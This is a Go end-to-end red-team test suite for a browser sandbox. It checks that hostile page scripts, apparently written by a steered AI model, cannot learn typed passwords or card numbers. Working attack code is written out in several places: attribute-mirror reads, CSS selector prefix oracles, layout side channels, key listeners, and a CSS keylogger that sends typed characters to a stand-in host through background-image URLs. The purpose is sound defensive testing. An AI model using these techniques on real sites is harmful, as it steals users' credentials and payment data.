package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/remixproxy/remixproxy/e2e/e2etest"
	"github.com/remixproxy/remixproxy/sandbox"
	"github.com/remixproxy/remixproxy/store"
)

// Red-team pass 6c: a remixlet (code a page-steered model wrote) learning what the person types
// into a sensitive field — its value, length, prefix or any bit of it — without reading the
// field itself: through the page's own mirror of the typed value in an attribute (sites keep
// `data-value` and the like in sync for their styles), through selectors and stylesheets that
// test such a mirror, and through fields inside shadow roots that the light-DOM checks did not
// see. Each remixlet waits until the person has typed (the test adds #go), tries, and stores
// what it learned; none may learn anything.

const (
	rtFieldsPassword = "hunter2"
	rtFieldsCard     = "4111111111111111"
)

// rtFieldsCases run side by side on /mirror after the person typed the password and the card.
var rtFieldsCases = []policyCase{
	{name: "read the mirrors with dom.attr", body: `await dom.waitFor('#go', { timeout: 60000 });
const out = [];
for (const [sel, a] of [['#pw', 'data-value'], ['#wrap', 'data-typed'], ['#card', 'data-value'], ['#pwlen', 'data-len'], ['#deb', 'data-shown']]) {
  try { out.push(await dom.attr(await dom.query(sel), a)); } catch (e) { out.push('refused'); }
}
try {
  const c = await dom.clone(await dom.query('#wrap'), true);
  out.push(await dom.attr(c, 'data-typed'));
} catch (e) { out.push('refused'); }
out.push(await dom.value(await dom.query('#copy')));
await rmx.storage.set('read', out.join('|'));`},
	{name: "prefix oracle by dom.query", body: `await dom.waitFor('#go', { timeout: 60000 });
const abc = 'abcdefghijklmnopqrstuvwxyz0123456789';
const learned = [];
for (const tpl of ['#wrap[data-typed^="%"]', 'form:has([data-typed^="%"]) #user', '#card[data-value^="%"]', '[data-typed$="%"]', ':is(#wrap)[data-typed*="%"]']) {
  let got = '';
  for (let n = 0; n < 4; n++) {
    let hit = false;
    for (const c of abc) {
      let el = null;
      try { el = await dom.query(tpl.replace('%', got + c)); } catch (e) { break; }
      if (el) { got += c; hit = true; break; }
    }
    if (!hit) break;
  }
  learned.push(got);
}
await rmx.storage.set('read', learned.join(''));`},
	{name: "prefix oracle by style.css and a layout read", style: `#wrap[data-typed^="h"] { width: 123px !important }
#user:is(form:has(#card[data-value^="4"]) *) { width: 77px !important }
#wrap[data-typed*="ter"] + #card { width: 99px !important }`,
		// data-* rules are kept until the first key of a secret and dropped at it (secret8).
		body: `await dom.waitFor('#go', { timeout: 60000 });
const out = [];
for (const sel of ['#wrap', '#user', '#card']) {
  try { out.push(String((await dom.rect(await dom.query(sel))).width)); } catch (e) { out.push('refused'); }
}
await rmx.storage.set('read', out.join(','));`},
	{name: "prefix oracle by addStyle pieces", body: `await dom.waitFor('#go', { timeout: 60000 });
const abc = 'abcdefghijklmnopqrstuvwxyz0123456789';
let got = '';
for (let n = 0; n < 3; n++) {
  let hit = false;
  for (const c of abc) {
    try {
      await dom.addStyle('#wrap[data-typed^="' + got + c + '"] { outline-width: 7px !important; outline-style: solid }');
    } catch (e) { continue; }
    let w = '';
    try { w = await dom.style(await dom.query('#wrap'), 'outline-width'); } catch (e) { break; }
    if (w === '7px') { got += c; hit = true; break; }
  }
  if (!hit) break;
}
await rmx.storage.set('read', got);`},
	{name: "length oracle by the page's length mirror", style: `#pwlen[data-len="7"] { height: 55px !important }`,
		body: `await dom.waitFor('#go', { timeout: 60000 });
let h = '';
try { h = String((await dom.rect(await dom.query('#pwlen'))).height); } catch (e) { h = 'refused'; }
await rmx.storage.set('read', h);`},
	{name: "read the page's strength meter and counter", body: `await dom.waitFor('#go', { timeout: 60000 });
const out = [];
for (const sel of ['#strength', '#count', '#meter', '#form', 'h1', '#wrap']) {
  try { out.push(await dom.text(await dom.query(sel))); } catch (e) { out.push('refused'); }
}
await rmx.storage.set('read', JSON.stringify(out));`},
	// The control: what a legitimate remixlet does on such a page still works — layout and its
	// sheet's rule on the page before anything is typed, presence tests, test ids, comparable
	// attributes, ordinary attributes.
	{name: "a legitimate remixlet", style: `[data-testid="login"] #user { outline: 1px solid rgb(1, 2, 3) }`,
		body: `const out = [];
out.push((await dom.rect(await dom.query('#user'))).width + ' ' + await dom.style(await dom.query('#user'), 'outline-color'));
out.push(!!(await dom.query('form[data-testid="login"] input[name^="us"]')), !!(await dom.query('[data-typed]')));
await dom.waitFor('#go', { timeout: 60000 });
out.push(await dom.attr(await dom.query('#user'), 'name'), await dom.value(await dom.query('#user')));
await rmx.storage.set('read', out.join(','));`},
}

// rtFieldsKeylogger is the CSS keylogger of a remixlet that holds a fetch: permission (a channel
// by design): rules on the page's mirror that load from the permitted host; and a control rule
// that shows the channel is open.
const rtFieldsKeylogger = `#wrap[data-typed$="2"] { background-image: url(https://witness.test/k/2) }
#wrap[data-typed^="h"] { border-image-source: url(https://witness.test/k/h) }
#card[data-value*="4111"] { background-image: url(https://witness.test/k/4111) }
#pwlen[data-len="7"] { background-image: url(https://witness.test/k/len7) }
h1 { background-image: url(https://witness.test/control-css) }`

// rtFieldsShadowCases run on /shadow, whose only sensitive fields are inside shadow roots: each
// measures once before the person types and once after; the two must not differ.
var rtFieldsShadowCases = []policyCase{
	{name: "size of a shadow field sized by its content", body: `const m = async () => {
  try { return String((await dom.rect(await dom.query('x-open'))).width); } catch (e) { return 'refused'; }
};
const before = await m();
await dom.waitFor('#go', { timeout: 60000 });
await rmx.storage.set('read', JSON.stringify([before, await m()]));`},
	{name: "field-state selectors on shadow fields", body: `const m = async () => {
  const out = [];
  for (const sel of ['x-fa:invalid', 'x-fa:valid', 'x-fa:state(empty)', 'form:invalid', 'form:has(:invalid)', 'x-open:has(:placeholder-shown)']) {
    try { out.push((await dom.query(sel)) ? 1 : 0); } catch (e) { out.push('refused'); }
  }
  return out.join(',');
};
const before = await m();
await dom.waitFor('#go', { timeout: 60000 });
await rmx.storage.set('read', JSON.stringify([before, await m()]));`},
	{name: "a shadow field's mirror on its host", body: `await dom.waitFor('#go', { timeout: 60000 });
const out = [];
try { out.push(await dom.attr(await dom.query('x-open'), 'data-value')); } catch (e) { out.push('refused'); }
let got = '';
for (const c of 'abcdefghijklmnopqrstuvwxyz0123456789') {
  try { if (await dom.query('x-open[data-value^="' + c + '"]')) { got = c; break; } } catch (e) { break; }
}
out.push(got);
await rmx.storage.set('read', out.join('|'));`},
}

// rtFieldsSite serves /mirror (fields whose typed value the page mirrors into attributes, as
// sites with floating labels and controlled inputs do) and /shadow (sensitive fields only
// inside shadow roots: one sized by its content, a form-associated custom element that reports
// its validity and states to the light DOM, and a host that mirrors its field's value).
func rtFieldsSite(nCases, nShadow int) http.Handler {
	status := statusParagraphs
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/mirror":
			htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Sign in</title>
<style>input { width: 150px; box-sizing: border-box } #wrap { width: 200px } #pwlen { height: 10px }</style></head>
<body><h1>Sign in</h1>
<form id="form" action="/login" onsubmit="return false" data-testid="login">
<input id="user" name="user" value="alice">
<div id="wrap" class="field" data-typed=""><input id="pw" type="password" name="pw" data-value=""></div>
<input id="card" name="cardnumber" autocomplete="off" data-value="">
<input id="copy" type="hidden" name="legacy">
<p id="meter">Strength: <b id="strength">none</b>, <small id="count">0 / 64</small></p>
</form>
<div id="pwlen" data-len="0"></div>
<div id="deb" data-shown=""></div>
`+status(nCases)+`
<script>
// The site mirrors what is typed into attributes, for its floating labels and strength meter.
const pw = document.getElementById('pw'), card = document.getElementById('card');
pw.addEventListener('input', () => {
  pw.dataset.value = pw.value;
  document.getElementById('wrap').dataset.typed = pw.value;
  document.getElementById('pwlen').dataset.len = String(pw.value.length);
  document.getElementById('strength').textContent = pw.value.length < 8 ? 'weak' : 'strong';
  document.getElementById('count').firstChild.data = pw.value.length + ' / 64';
  document.getElementById('copy').value = pw.value; // an old site's hidden copy, a property only
});
card.addEventListener('input', () => { card.dataset.value = card.value; });
// And, for its preview, a debounced copy (written by a timer, after the typing's task).
let timer = 0;
pw.addEventListener('input', () => { clearTimeout(timer); timer = setTimeout(() => { document.getElementById('deb').dataset.shown = pw.value; }, 300); });
document.body.dataset.pageScript = 'ran';
</script>
</body></html>`)
		case "/styled":
			htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Sign in</title>
<style>
/* A floating label, and a field marked while too short: the page's own styles follow the typing. */
.fl { position: relative; display: block; width: 200px; height: 40px }
.fl label { position: absolute; left: 4px; top: 2px; font-size: 10px }
.fl input:placeholder-shown + label { top: 14px; font-size: 14px }
#pw:invalid { outline: 3px solid red }
</style></head>
<body><h1>Sign in</h1>
<form id="form" action="/login" onsubmit="return false">
<span class="fl"><input id="pw" type="password" placeholder=" " minlength="8"><label id="lbl" for="pw">Password</label></span>
</form>
`+status(1)+`
<script>document.body.dataset.pageScript = 'ran';</script>
</body></html>`)
		case "/shadow":
			htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Sign in</title></head>
<body><h1>Sign in</h1>
<form id="form" action="/login" onsubmit="return false">
<x-open></x-open>
<x-fa name="pin"></x-fa>
</form>
`+status(nShadow)+`
<script>
// A password widget in an open shadow root, sized by what is typed (field-sizing: content) and
// mirroring the value onto its host; and a form-associated PIN element in a closed root that
// reports its validity (at least 6 characters) and an "empty" state to the light DOM.
customElements.define('x-open', class extends HTMLElement {
  connectedCallback() {
    const root = this.attachShadow({ mode: 'open' });
    root.innerHTML = '<style>input { field-sizing: content; min-width: 0 }</style><input id="spw" type="password" placeholder="pw">';
    const f = root.getElementById('spw');
    f.addEventListener('input', () => { this.dataset.value = f.value; });
  }
});
customElements.define('x-fa', class extends HTMLElement {
  static formAssociated = true;
  #root; #int;
  connectedCallback() {
    this.#int = this.attachInternals();
    this.#root = this.attachShadow({ mode: 'closed' });
    this.#root.innerHTML = '<input id="cpw" type="password">';
    const f = this.#root.getElementById('cpw');
    const sync = () => {
      this.#int.setFormValue(f.value);
      if (f.value.length < 6) this.#int.setValidity({ tooShort: true }, 'too short', f); else this.#int.setValidity({});
      if (f.value === '') this.#int.states.add('empty'); else this.#int.states.delete('empty');
    };
    f.addEventListener('input', sync);
    sync();
  }
  focusField() { this.#root.getElementById('cpw').focus(); }
  fieldValue() { return this.#root.getElementById('cpw').value; }
});
document.body.dataset.pageScript = 'ran';
</script>
</body></html>`)
		default:
			http.NotFound(w, r)
		}
	})
}

// rtFieldsRun opens page, types into each field (focus expressions), adds #go and waits for
// every case to finish.
func (h *hostileWorld) rtFieldsRun(page string, cases []policyCase, rxs []store.Remixlet, typing [][2]string, check string) {
	h.t.Helper()
	tab := h.tab
	tab.Navigate(page)
	tab.WaitConnected()
	tab.WaitFor(10*time.Second, "the page's script", pageScriptRan)
	// Let each remixlet reach its wait (the shadow cases measure first).
	time.Sleep(1500 * time.Millisecond)
	h.rtFieldsType(typing, check)
	h.rtFieldsGo(cases, rxs)
}

// rtFieldsType types into each field as the person (focus expression, text) and fails the test
// unless check is then true in the page.
func (h *hostileWorld) rtFieldsType(typing [][2]string, check string) {
	h.t.Helper()
	tab := h.tab
	for _, ty := range typing {
		e2etest.Eval[any](tab, ty[0])
		ctx, cancel := context.WithTimeout(tab.Context(), 15*time.Second)
		err := chromedp.Do(ctx, chromedp.KeyEvent(ty[1]))
		cancel()
		if err != nil {
			h.t.Fatalf("typing %q: %v", ty[1], err)
		}
	}
	if got := e2etest.Eval[bool](tab, check); !got {
		h.t.Fatalf("the typed values are not in the page (%s is false): typing did not work", check)
	}
}

// rtFieldsGo adds #go to the page and waits for every case to finish.
func (h *hostileWorld) rtFieldsGo(cases []policyCase, rxs []store.Remixlet) {
	h.t.Helper()
	tab := h.tab
	e2etest.Eval[any](tab, `document.body.append(Object.assign(document.createElement('i'), { id: 'go' }))`)
	allDone := fmt.Sprintf(`[...document.querySelectorAll('p.st')].filter((e) => e.textContent === 'done').length === %d`, len(cases))
	if err := waitTrue(tab, 60*time.Second, allDone); err != nil {
		var missing []string
		for i, c := range cases {
			if e2etest.Eval[string](tab, fmt.Sprintf(`document.getElementById('s-%d').textContent`, i)) != "done" {
				missing = append(missing, fmt.Sprintf("%s:\n%s", c.name, h.diagnose(rxs[i])))
			}
		}
		h.t.Fatalf("not every remixlet finished: %v\n%s", err, strings.Join(missing, "\n"))
	}
}

// TestRedteamFieldMirrorsTellRemixletsNothing: the page mirrors the typed password (into the
// field's data-value, its wrapper's data-typed and its length into another element) and the
// typed card number; no remixlet reads a mirror, learns a prefix by dom.query (also inside
// :has() and :is()), by its style.css or by addStyle pieces read back with dom.rect/dom.style,
// or the length through the page's length mirror.
func TestRedteamFieldMirrorsTellRemixletsNothing(t *testing.T) {
	wit := &witness{}
	h := startHostileWorld(t, wit, map[string]http.Handler{
		"fields.test":  rtFieldsSite(len(rtFieldsCases), len(rtFieldsShadowCases)),
		"witness.test": wit,
	})
	rxs := h.addPolicy(rtFieldsCases, "https://fields.test/mirror*")
	saveUnchecked(t, h.st, "keylogger", store.Files{
		sandbox.ManifestFile: []byte(`{"name": "keylogger", "description": "Hostile remixlet for the e2e suite.", "api": 1, "matches": ["https://fields.test/mirror*"], "permissions": [{"name": "fetch:witness.test", "reason": "prices"}]}`),
		sandbox.StyleFile:    []byte(rtFieldsKeylogger),
	})
	h.rtFieldsRun("https://fields.test/mirror", rtFieldsCases, rxs, [][2]string{
		{`document.getElementById('pw').focus()`, rtFieldsPassword},
		{`document.getElementById('card').focus()`, rtFieldsCard},
	}, `document.getElementById('wrap').dataset.typed === '`+rtFieldsPassword+`' && document.getElementById('card').dataset.value === '`+rtFieldsCard+`'`)
	read := func(i int) string {
		v := h.storedString(rxs[i], "read")
		t.Logf("%s: read %q", rtFieldsCases[i].name, v)
		return v
	}
	if v := read(0); strings.Contains(v, "hun") || strings.Contains(v, "4111") || strings.Contains(v, "7") {
		t.Errorf("%s: the remixlet read %q: a mirror of the password or card\n%s", rtFieldsCases[0].name, v, h.diagnose(rxs[0]))
	}
	if v := read(1); v != "" {
		t.Errorf("%s: the remixlet learned %q of the password and card\n%s", rtFieldsCases[1].name, v, h.diagnose(rxs[1]))
	}
	if v := read(2); v != "200,150,150" && v != "refused,refused,refused" {
		t.Errorf("%s: the remixlet measured %q, want the page's own sizes 200,150,150 (refused rules not applied) or every read refused\n%s", rtFieldsCases[2].name, v, h.diagnose(rxs[2]))
	}
	if v := read(3); v != "" {
		t.Errorf("%s: the remixlet learned %q of the password\n%s", rtFieldsCases[3].name, v, h.diagnose(rxs[3]))
	}
	if v := read(4); v != "10" && v != "refused" {
		t.Errorf("%s: the remixlet measured %q, want the page's own 10 or refused: the password's length\n%s", rtFieldsCases[4].name, v, h.diagnose(rxs[4]))
	}
	if v := read(5); strings.Contains(v, "weak") || strings.Contains(v, "7 /") || !strings.Contains(v, "Strength") {
		t.Errorf("%s: the remixlet read %q: the page's strength meter or length counter (or not even the meter's label)\n%s", rtFieldsCases[5].name, v, h.diagnose(rxs[5]))
	}
	if v := read(6); v != "150 rgb(1, 2, 3),true,true,user,alice" {
		t.Errorf("%s: read %q, want \"150 rgb(1, 2, 3),true,true,user,alice\": the rules stopped a legitimate remixlet\n%s", rtFieldsCases[6].name, v, h.diagnose(rxs[6]))
	}
	// The cost (secret8): after the first key of a secret a sheet's rules on page elements are
	// dropped, the legitimate one's included, until the page is loaded again.
	if c := e2etest.Eval[string](h.tab, `getComputedStyle(document.getElementById('user')).outlineColor`); c == "rgb(1, 2, 3)" {
		t.Errorf("the legitimate remixlet's rule on the page still applies after the typing: the sheet as written outlived the first key")
	}
	for i, c := range rtFieldsCases {
		if c.wantLog == "" {
			continue
		}
		if log, ok := h.waitLog(rxs[i], regexp.MustCompile(c.wantLog), 5*time.Second); !ok {
			t.Errorf("%s: the remixlet's log does not match %q:\n%s", c.name, c.wantLog, log)
		}
	}
	// The keylogger's control rule loads (the channel is open), none of its mirror rules does.
	for deadline := time.Now().Add(10 * time.Second); h.sites.Requests("witness.test", "/control-css") == 0; time.Sleep(100 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the keylogger's control rule never loaded from the witness: the zero count below proves nothing")
		}
	}
	time.Sleep(500 * time.Millisecond)
	for _, path := range h.wit.requests() {
		if strings.Contains(path, "/k/") {
			t.Errorf("the witness learned %s from the keylogger's stylesheet", path)
		}
	}
}

// TestRedteamShadowFieldsTellRemixletsNothing: sensitive fields inside shadow roots (open, and
// closed in a form-associated custom element) tell a remixlet nothing through the size of a
// field the page sizes by its content, field-state selectors the light DOM can see (the custom
// element's :invalid and :state(), the form's :invalid) or the host's mirror of the value.
func TestRedteamShadowFieldsTellRemixletsNothing(t *testing.T) {
	wit := &witness{}
	h := startHostileWorld(t, wit, map[string]http.Handler{
		"fields.test":  rtFieldsSite(len(rtFieldsCases), len(rtFieldsShadowCases)),
		"witness.test": wit,
	})
	rxs := h.addPolicy(rtFieldsShadowCases, "https://fields.test/shadow*")
	h.rtFieldsRun("https://fields.test/shadow", rtFieldsShadowCases, rxs, [][2]string{
		{`document.querySelector('x-open').shadowRoot.getElementById('spw').focus()`, rtFieldsPassword},
		{`document.querySelector('x-fa').focusField()`, rtFieldsPassword},
	}, `document.querySelector('x-open').dataset.value === '`+rtFieldsPassword+`' && document.querySelector('x-fa').fieldValue() === '`+rtFieldsPassword+`' && document.querySelector('x-fa').matches(':valid')`)
	for i := range 2 {
		v := h.storedString(rxs[i], "read")
		t.Logf("%s: read %s", rtFieldsShadowCases[i].name, v)
		var m []string
		if err := json.Unmarshal([]byte(v), &m); err != nil || len(m) != 2 {
			t.Errorf("%s: the remixlet stored %q, not two measurements\n%s", rtFieldsShadowCases[i].name, v, h.diagnose(rxs[i]))
			continue
		}
		if m[0] != m[1] {
			t.Errorf("%s: before typing %q, after %q: the remixlet saw the typing", rtFieldsShadowCases[i].name, m[0], m[1])
		}
	}
	if v := h.storedString(rxs[2], "read"); strings.Trim(v, "|") != "" && v != "refused|" {
		t.Errorf("%s: the remixlet read %q of the host's mirror\n%s", rtFieldsShadowCases[2].name, v, h.diagnose(rxs[2]))
	}
	h.checkNoWitness("after the shadow cases")
}

// rtEditableSite serves /editable: password fields in closed shadow roots whose hosts are
// editable (a declarative root on a contenteditable div and on a plaintext-only p, a custom
// element's closed root with contenteditable on its host), and a plain editable note as the
// control. Each host is a 200x30 box filled by its field, so a click on it focuses the field.
func rtEditableSite(n int) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/editable" {
			http.NotFound(w, r)
			return
		}
		status := statusParagraphs(n)
		field := `<template shadowrootmode="closed"><style>:host { display: block; width: 200px; height: 30px } input { width: 200px; height: 30px; box-sizing: border-box }</style><input type="password"></template>`
		htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Editable</title></head>
<body><h1>Editable</h1>
<div id="ed1" contenteditable="true">`+field+`</div>
<p id="ed2" contenteditable="plaintext-only">`+field+`</p>
<x-ced id="ed3" contenteditable="true"></x-ced>
<div id="note" contenteditable="true" style="width: 200px; height: 30px">note</div>
`+status+`
<script>
customElements.define('x-ced', class extends HTMLElement {
  connectedCallback() {
    const root = this.attachShadow({ mode: 'closed' });
    root.innerHTML = '<style>:host { display: block; width: 200px; height: 30px } input { width: 200px; height: 30px; box-sizing: border-box }</style><input type="password">';
  }
});
window.probe = [];
addEventListener('keydown', (e) => { const s = getSelection(); window.probe.push([e.target.id, s.anchorNode && (s.anchorNode.id || s.anchorNode.nodeName), s.anchorOffset, s.rangeCount, s.type, document.activeElement.id].join(':')); }, true);
document.body.dataset.pageScript = 'ran';
</script>
</body></html>`)
	})
}

// TestRedteamEditableShadowHostsCarryNoKeys: keys typed into password fields inside closed
// shadow roots whose hosts are editable reach a remixlet's key listener without key or value;
// the keys of a plain editable note still do.
func TestRedteamEditableShadowHostsCarryNoKeys(t *testing.T) {
	wit := &witness{}
	c := []policyCase{{name: "key events on body", body: `const events = [];
const report = (e) => { events.push([e.type, e.key === undefined ? '-' : e.key, e.value === undefined ? '-' : e.value]); rmx.storage.set('read', JSON.stringify(events)); };
const body = await dom.query('body');
await dom.on(body, 'keydown', report);
await dom.on(body, 'keyup', report);
await dom.on(body, 'input', report);`}}
	h := startHostileWorld(t, wit, map[string]http.Handler{"fields.test": rtEditableSite(len(c)), "witness.test": wit})
	rxs := h.addPolicy(c, "https://fields.test/editable*")
	h.runPolicy("https://fields.test/editable", c, rxs)
	tab := h.tab
	for _, ty := range [][2]string{{"ed1", "hunter2"}, {"ed2", "hunter2"}, {"ed3", "hunter2"}, {"note", "k"}} {
		box := e2etest.Eval[[]float64](tab, `(() => { const r = document.getElementById('`+ty[0]+`').getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2]; })()`)
		ctx, cancel := context.WithTimeout(tab.Context(), 15*time.Second)
		err := chromedp.Do(ctx, chromedp.MouseClickXY(box[0], box[1]), chromedp.KeyEvent(ty[1]))
		cancel()
		if err != nil {
			t.Fatalf("typing %q into %s: %v", ty[1], ty[0], err)
		}
	}
	t.Logf("the page's probe: %v", e2etest.Eval[[]string](tab, `window.probe`))
	all := h.waitStored(rxs[0], "read", `["keyup","k",`, 10*time.Second)
	t.Logf("events: %s", head(all, 1500))
	if !strings.Contains(all, `["keydown","k",`) {
		t.Fatalf("the listener did not see the note's key (the case proves nothing): %s", all)
	}
	var events [][]string
	if err := json.Unmarshal([]byte(all), &events); err != nil {
		t.Fatalf("the remixlet stored %q: %v", all, err)
	}
	// Not even blank events: their number is the password's length, their times its rhythm.
	if n := strings.Count(all, `["keydown",`); n != 1 {
		t.Errorf("%d keydowns reached the remixlet, want only the note's one (events of the password fields tell their length by their number)", n)
	}
	for _, e := range events {
		if len(e) == 3 && (len(e[1]) == 1 && strings.Contains("hunter2", e[1]) || strings.Contains(e[2], "hun")) {
			t.Errorf("an event carries part of a password: %q", e)
		}
	}
	h.checkNoWitness("after the editable cases")
}

// rtRevealCases run on /reveal, whose password fields the page shows as text before its load
// (a "show password" default), before the reveal watch starts; the person then types into them.
var rtRevealCases = []policyCase{
	{name: "read the fields the page revealed", body: `const out = [];
for (const sel of ['#pw1', '#pw2', '#pw3']) {
  const f = await dom.waitFor(sel, { timeout: 20000 });
  out.push(await dom.attr(f, 'type'));
}
await dom.waitFor('#go', { timeout: 60000 });
for (const sel of ['#pw1', '#pw2', '#pw3']) {
  const f = await dom.query(sel);
  out.push(await dom.value(f), await dom.attr(f, 'value'));
  out.push(await dom.value(await dom.clone(f)));
}
await rmx.storage.set('read', out.join('|'));`},
	{name: "keys of the fields the page revealed", body: `const events = [];
const report = (e) => { events.push([e.type, e.key === undefined ? '-' : e.key, e.value === undefined ? '-' : e.value]); rmx.storage.set('keys', JSON.stringify(events)); };
const body = await dom.query('body');
await dom.on(body, 'keydown', report);
await dom.on(body, 'input', report);
await rmx.storage.set('read', 'listening');`},
}

// rtRevealSite serves /reveal.
func rtRevealSite(n int) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/reveal" {
			http.NotFound(w, r)
			return
		}
		status := statusParagraphs(n)
		htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Sign in</title></head>
<body><h1>Sign in</h1>
<form id="form" action="/login" onsubmit="return false">
<input id="pw1" type="password" name="password">
<input id="pw2" type="password" name="user_pwd">
<input id="pw3" type="password" placeholder="Passwort">
<input id="plain" name="nickname">
</form>
`+status+`
<script>
// The site shows its password fields as text by default, before its load.
for (const id of ['pw1', 'pw2']) document.getElementById(id).type = 'text';
document.addEventListener('DOMContentLoaded', () => { document.getElementById('pw3').type = 'text'; });
document.body.dataset.pageScript = 'ran';
</script>
</body></html>`)
	})
}

// TestRedteamRevealedBeforeLoadStaySecret: password fields the page turns into text before its
// load (before the reveal watch starts) are still password fields to a remixlet, by their names:
// what the person types into them reads back empty and their keys carry nothing.
func TestRedteamRevealedBeforeLoadStaySecret(t *testing.T) {
	wit := &witness{}
	h := startHostileWorld(t, wit, map[string]http.Handler{"fields.test": rtRevealSite(len(rtRevealCases)), "witness.test": wit})
	rxs := h.addPolicy(rtRevealCases, "https://fields.test/reveal*")
	typing := [][2]string{
		{`document.getElementById('pw1').focus()`, rtFieldsPassword},
		{`document.getElementById('pw2').focus()`, rtFieldsPassword},
		{`document.getElementById('pw3').focus()`, rtFieldsPassword},
		{`document.getElementById('plain').focus()`, "k"},
	}
	h.rtFieldsRun("https://fields.test/reveal", rtRevealCases, rxs, typing,
		`['pw1', 'pw2', 'pw3'].every((id) => document.getElementById(id).value === '`+rtFieldsPassword+`' && document.getElementById(id).type === 'text')`)
	v := h.storedString(rxs[0], "read")
	t.Logf("read: %q", v)
	if !strings.HasPrefix(v, "text|text|text|") {
		t.Errorf("the remixlet read %q: the fields were not text when it looked (the case proves nothing)", v)
	}
	if strings.Contains(v, "hun") {
		t.Errorf("the remixlet read the typed password: %q\n%s", v, h.diagnose(rxs[0]))
	}
	all := h.waitStored(rxs[1], "keys", `["input","-","k"]`, 10*time.Second)
	if !strings.Contains(all, `["keydown","k",`) || !strings.Contains(all, `["input","-","k"]`) {
		t.Fatalf("the listener did not see the plain field's key and input (the case proves nothing): %s", all)
	}
	if strings.Contains(all, `"h"`) || strings.Contains(all, `"u"`) || strings.Contains(all, "hun") {
		t.Errorf("key events of the revealed fields reached the remixlet: %s", head(all, 600))
	}
	if n := strings.Count(all, `["keydown",`); n != 1 {
		t.Errorf("%d keydowns reached the remixlet, want only the plain field's one: %s", n, head(all, 600))
	}
	h.checkNoWitness("after the reveal cases")
}

// TestRedteamKeystrokesCountedByNothing: the page changes itself on every key typed into its
// password field (its mirrors); a remixlet's rmx.keep check, which runs on page changes, must not
// run once per key — the number of runs would be the password's length.
func TestRedteamKeystrokesCountedByNothing(t *testing.T) {
	wit := &witness{}
	h := startHostileWorld(t, wit, map[string]http.Handler{
		"fields.test":  rtFieldsSite(1, 0),
		"witness.test": wit,
	})
	c := []policyCase{{name: "count page changes with a keep", body: `let n = 0;
rmx.keep('count', { check: async () => { n++; return true; }, repair: async () => {} });
await dom.query('body'); // starts the page-change reports
await dom.waitFor('#go', { timeout: 60000 });
await rmx.storage.set('read', String(n));
await dom.waitFor('#go2', { timeout: 60000 });
await rmx.storage.set('after', String(n));
const rect = async () => { try { return String((await dom.rect(await dom.query('#user'))).width); } catch (e) { return 'refused'; } };
await rmx.storage.set('rect1', await rect());
await dom.waitFor('#go3', { timeout: 60000 });
await rmx.storage.set('rect2', await rect());`}}
	rxs := h.addPolicy(c, "https://fields.test/mirror*")
	tab := h.tab
	tab.Navigate("https://fields.test/mirror")
	tab.WaitConnected()
	tab.WaitFor(10*time.Second, "the page's script", pageScriptRan)
	time.Sleep(1500 * time.Millisecond)
	e2etest.Eval[any](tab, `document.getElementById('pw').focus()`)
	// One key at a time, as a person types: each its own page change.
	for _, k := range rtFieldsPassword {
		ctx, cancel := context.WithTimeout(tab.Context(), 15*time.Second)
		err := chromedp.Do(ctx, chromedp.KeyEvent(string(k)))
		cancel()
		if err != nil {
			t.Fatalf("typing: %v", err)
		}
		time.Sleep(120 * time.Millisecond)
	}
	if v := e2etest.Eval[string](tab, `document.getElementById('wrap').dataset.typed`); v != rtFieldsPassword {
		t.Fatalf("the page's mirror holds %q: typing did not work", v)
	}
	time.Sleep(200 * time.Millisecond)
	e2etest.Eval[any](tab, `document.body.append(Object.assign(document.createElement('i'), { id: 'go' }))`)
	for deadline := time.Now().Add(20 * time.Second); h.storedString(rxs[0], "read") == ""; time.Sleep(50 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the remixlet did not store its count\n%s", h.diagnose(rxs[0]))
		}
	}
	// After the typing the keep runs again on page changes (the marks the test adds).
	time.Sleep(2 * time.Second)
	e2etest.Eval[any](tab, `document.body.append(Object.assign(document.createElement('i'), { id: 'go2' }))`)
	// While the password field holds what was typed, the page's mirrors make layout reads
	// refused; once the person (or the page) empties it, they are allowed again.
	if r := h.waitStored(rxs[0], "rect1", "", 20*time.Second); r != "refused" {
		t.Errorf("dom.rect while the mirrored password is in its field: %q, want refused", r)
	}
	e2etest.Eval[any](tab, `document.getElementById('pw').value = ''; document.getElementById('card').value = ''; document.body.append(Object.assign(document.createElement('i'), { id: 'go3' }))`)
	if err := waitTrue(tab, 30*time.Second, `document.getElementById('s-0').textContent === 'done'`); err != nil {
		t.Fatalf("the remixlet did not finish: %v\n%s", err, h.diagnose(rxs[0]))
	}
	if r := h.storedString(rxs[0], "rect2"); r != "150" {
		t.Errorf("dom.rect after the fields were emptied: %q, want 150 (the page's width of #user)", r)
	}
	var after int
	fmt.Sscan(h.storedString(rxs[0], "after"), &after)
	v := h.storedString(rxs[0], "read")
	t.Logf("keep checks by the time the person had typed: %s", v)
	var n int
	fmt.Sscan(v, &n)
	if n >= len(rtFieldsPassword) {
		t.Errorf("the keep's check ran %d times while %d keys were typed into the password field: it can count them", n, len(rtFieldsPassword))
	}
	if after <= n {
		t.Errorf("the keep's check ran %d times by the end, %d when the typing ended: page changes after the typing were not reported", after, n)
	}
}

// statusParagraphs are the status elements of n hostile cases (hostileWrapper writes "done" into
// its own when its attempt is over).
func statusParagraphs(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "<p class=st id=s-%d></p>\n", i)
	}
	return b.String()
}

// waitStored waits until the string rx stored under key contains want (is not empty, when want
// is "") or d has passed, and returns it.
func (h *hostileWorld) waitStored(rx store.Remixlet, key, want string, d time.Duration) string {
	var v string
	for deadline := time.Now().Add(d); ; time.Sleep(100 * time.Millisecond) {
		v = h.storedString(rx, key)
		if v != "" && strings.Contains(v, want) || time.Now().After(deadline) {
			return v
		}
	}
}

